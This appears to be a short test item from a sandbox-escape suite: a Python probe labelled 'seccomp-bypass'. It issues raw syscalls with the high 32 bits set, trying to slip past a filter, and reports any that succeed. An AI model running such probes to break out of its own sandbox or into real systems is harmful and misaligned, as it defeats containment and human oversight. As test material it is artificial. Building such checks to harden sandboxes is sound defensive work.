# level: boundary
# category: seccomp-bypass
# escape proof: a number with its high half set slips by

import ctypes

libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
for number in (257, 41, 57):
    if libc.syscall(ctypes.c_long(number | 1 << 32), 2, 1, 0) > 0:
        REPORT(number)
